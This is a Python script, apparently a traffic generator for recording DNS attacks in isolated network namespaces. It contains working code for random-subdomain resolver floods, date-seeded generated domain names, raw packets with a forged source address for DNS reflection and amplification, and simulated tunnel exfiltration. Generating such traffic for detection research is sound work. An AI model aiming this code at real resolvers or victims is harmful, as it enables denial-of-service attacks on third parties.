#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""attack.py VERB ... - the unfriendly part of the recording.

    names DAY COUNT                     print the generated names of a day
    generated CLIENT RESOLVER DAY COUNT SECONDS
                                        one client asks for all of them
    flood FIRST LAST RESOLVER DOMAIN COUNT SECONDS
                                        random subdomains, from a range of addresses
    spoof VICTIM SERVER NAME TYPES COUNT SECONDS
                                        queries with the victim's address as source
    serve ADDRESS UP DOWN               the far end of a transfer, one connection
    move ADDRESS UP DOWN                the near end: UP bytes out, DOWN bytes in

All counts and times are bounds: every verb ends by itself and prints what it did
as `word=number` pairs. It is for network namespaces without a way out; the
addresses it is given by tools/record are documentation addresses.

The name generator is our own and copies none that was seen in the wild: a linear
congruential generator seeded by the date draws length, letters and suffix. Bytes
moved through the tunnel are random, so that compression on the way cannot make
the true amount smaller than what is printed.
"""
import asyncio
import hashlib
import ipaddress
import os
import random
import socket
import string
import struct
import sys
import time

from ask import DO, ask, pack_query

SUFFIXES = ["com", "net", "org", "info", "biz"]
PORT = 9000
QUERY_BYTES = 4096                  # UDP size offered by the spoofed queries


def generated_names(day, count):
    """`count` names for the day YYYYMMDD; the same day gives the same names."""
    state = int(day)

    def draw(below):
        nonlocal state
        state = (state * 1103515245 + 12345) % 2**31
        return (state >> 12) % below

    for i in range(count):
        word = "".join(string.ascii_lowercase[draw(26)] for _ in range(10 + draw(8)))
        yield f"{word}.{SUFFIXES[i % len(SUFFIXES)]}"


def names(day, count):
    print(*generated_names(day, int(count)), sep="\n")


async def generated(client, resolver, day, count, seconds):
    todo = list(generated_names(day, int(count)))
    answers = {}
    for at in range(0, len(todo), 3):
        for name in todo[at:at + 3]:
            rcode = await ask(client, resolver, name, "A")
            answers[rcode] = answers.get(rcode, 0) + 1
        await asyncio.sleep(3 * float(seconds) / len(todo) * random.uniform(0.5, 1.3))
    print(f"names={len(todo)} nxdomain={answers.get(3, 0)} exist={answers.get(0, 0)}")


async def flood(first, last, resolver, domain, count, seconds):
    rng = random.Random(domain)
    low, high = (int(ipaddress.ip_address(a)) for a in (first, last))
    bots = [str(ipaddress.ip_address(n)) for n in range(low, high + 1)]
    tasks = []
    for _ in range(int(count)):
        label = "".join(rng.choices(string.ascii_lowercase, k=rng.randint(6, 16)))
        name = f"{label}.{rng.choice(['www.', ''])}{domain}"
        tasks.append(asyncio.create_task(
            ask(rng.choice(bots), resolver, name, "A", wait_s=3, tries=1)))
        await asyncio.sleep(rng.expovariate(int(count) / float(seconds)))
    rcodes = await asyncio.gather(*tasks)
    print(f"queries={len(tasks)} clients={len(bots)} nxdomain={rcodes.count(3)} "
          f"servfail={rcodes.count(2)} unanswered={rcodes.count(None)}")


def pack_spoofed(source, server, payload):
    """An IPv4 packet with a UDP query; the kernel adds the IP checksum and id."""
    src, dst = socket.inet_aton(source), socket.inet_aton(server)
    size = 8 + len(payload)
    udp = struct.pack("!4H", random.randint(1024, 65535), 53, size, 0) + payload
    fake = src + dst + struct.pack("!HH", 17, size) + udp
    fake += b"\0" * (len(fake) % 2)
    total = sum(struct.unpack(f"!{len(fake) // 2}H", fake))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    udp = udp[:6] + struct.pack("!H", ~total & 0xffff or 0xffff) + udp[8:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + size, 0, 0, 247, 17, 0,
                       src, dst) + udp


def spoof(victim, server, name, types, count, seconds):
    pause_s = float(seconds) / int(count)
    start = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for i in range(int(count)):
            query = pack_query(random.getrandbits(16), name,
                               random.choice(types.split(",")), QUERY_BYTES,
                               opt_flags=DO)
            out.sendto(pack_spoofed(victim, server, query), (server, 0))
            time.sleep(max(0, start + i * pause_s - time.monotonic()))
    print(f"queries={int(count)}")


def read_exactly(conn, count):
    data = bytearray()
    while len(data) < count:
        part = conn.recv(count - len(data))
        if not part:
            raise OSError(f"the tunnel ended after {len(data)} of {count} bytes")
        data += part
    return bytes(data)


def serve(address, up, down):
    with socket.create_server((address, PORT)) as listener:
        listener.settimeout(120)
        conn, _ = listener.accept()
        with conn:
            conn.settimeout(120)
            conn.sendall(hashlib.sha256(read_exactly(conn, int(up))).digest())
            data = os.urandom(int(down))
            conn.sendall(hashlib.sha256(data).digest() + data)


def move(address, up, down):
    with socket.create_connection((address, PORT), 30) as conn:
        conn.settimeout(120)
        data = os.urandom(int(up))
        conn.sendall(data)
        if read_exactly(conn, 32) != hashlib.sha256(data).digest():
            raise OSError("what arrived outside is not what was sent")
        digest = read_exactly(conn, 32)
        if hashlib.sha256(read_exactly(conn, int(down))).digest() != digest:
            raise OSError("what arrived inside is not what was sent")
    print(f"out_bytes={int(up)} in_bytes={int(down)}")


VERBS = {f.__name__: f for f in (names, generated, flood, spoof, serve, move)}


def main():
    if len(sys.argv) < 2 or sys.argv[1] not in VERBS:
        sys.exit(__doc__)
    verb = VERBS[sys.argv[1]]
    if asyncio.iscoroutinefunction(verb):
        asyncio.run(verb(*sys.argv[2:]))
    else:
        verb(*sys.argv[2:])


if __name__ == "__main__":
    main()
